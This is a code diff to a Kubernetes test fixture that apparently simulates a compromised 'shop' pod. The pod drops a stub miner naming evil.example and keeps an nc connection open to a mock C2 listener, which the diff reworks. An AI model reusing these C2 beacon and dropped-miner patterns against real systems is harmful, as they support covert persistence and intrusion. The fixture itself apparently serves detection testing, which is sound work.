@@ -15,19 +15,20 @@ const SHOP_SCRIPT = [
   'mkdir -p /www && echo shop-ok > /www/index.html && httpd -p 8080 -h /www',
   `echo "miner --pool evil.example" > ${DROPPED_FILE} && chmod +x ${DROPPED_FILE}`,
   'echo shop started',
-  // the outbound "reverse shell": a TCP connection to the C2 pod that stays open (retried until C2 listens)
-  `(while true; do sleep 100000 | nc "$C2_IP" ${C2_PORT}; sleep 1; done) &`,
+  // the outbound "reverse shell": a TCP connection to the C2 pod held open by the program nc hands it to
+  // (retried every second until C2 listens)
+  `(while true; do nc "$C2_IP" ${C2_PORT} -e sleep 100000; sleep 1; done) &`,
   'A=holdfast-memory; B=marker; SECRET="$A-$B-$RUN_ID"',
   'while true; do echo "tick ${#SECRET}" > /dev/null; sleep 2; done',
 ].join('\n');
 
-/** The attacker's listener; busybox nc ends a connection when its stdin ends, hence the sleep. */
+/** The attacker's listener: every connection is handed to a long sleep that keeps it open. */
 export function c2Pod(): k8s.V1Pod {
   return {
     metadata: { name: 'c2', labels: { role: 'c2' } },
     spec: {
       terminationGracePeriodSeconds: 1,
-      containers: [{ name: 'c2', image: LOCAL_IMAGES.busybox, imagePullPolicy: 'Never', command: ['sh', '-c', `while true; do sleep 100000 | nc -l -p ${C2_PORT} > /dev/null; done`] }],
+      containers: [{ name: 'c2', image: LOCAL_IMAGES.busybox, imagePullPolicy: 'Never', command: ['nc', '-ll', '-p', String(C2_PORT), '-e', 'sleep', '100000'] }],
     },
   };
 }
